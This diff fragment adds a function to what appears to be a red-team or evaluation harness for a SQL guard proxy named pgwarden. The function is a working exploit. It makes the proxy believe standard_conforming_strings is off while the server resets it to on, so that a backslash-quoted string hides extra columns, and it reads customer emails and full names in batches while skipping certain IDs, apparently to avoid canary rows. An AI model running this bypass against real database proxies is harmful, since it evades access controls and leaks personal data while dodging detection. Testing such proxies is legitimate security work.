@@ -2498,6 +2498,28 @@ def t_implicit_flow_semijoin(ctx: Ctx) -> None:
                 return
 
 
+@technique("rows")
+def t_scs_reverse(ctx: Ctx) -> None:
+    """The other direction: pgwarden is told standard_conforming_strings is off (a SET it
+    follows), then the server quietly goes back to on -- RESET ALL, DISCARD ALL, a rolled-back
+    transaction, set_config(). Read with backslash escapes, 'A\\', ... -- ' is one string; the
+    server reads the string A\\ and the columns after it."""
+    leak = ("SELECT 'A\\', customer_id + 0 AS k, \"Email\" || ' ' || \"FullName\" AS e FROM customers "
+            "WHERE customer_id BETWEEN {a} AND {b} AND customer_id NOT IN (777, 1555, 2333, 2999, 3111) -- '")  # fmt: skip
+    for n, back in enumerate(("RESET ALL", "DISCARD ALL", "RESET standard_conforming_strings",
+                              "SELECT set_config('standard_conforming_strings', 'on', false)", "rollback")):  # fmt: skip
+        c = ctx.connect()
+        if back == "rollback":
+            ctx.q(c, "BEGIN")
+            ctx.q(c, "SET standard_conforming_strings = off")
+            ctx.q(c, "ROLLBACK")
+        else:
+            ctx.q(c, "SET standard_conforming_strings = off")
+            ctx.q(c, back)
+        r = ctx.q(c, leak.format(a=1 + 600 * n, b=600 * (n + 1)))
+        ctx.out.notes.append(f"{back}: {r!r:.80}")
+
+
 # --- the honest agent ------------------------------------------------------------------------
 
 
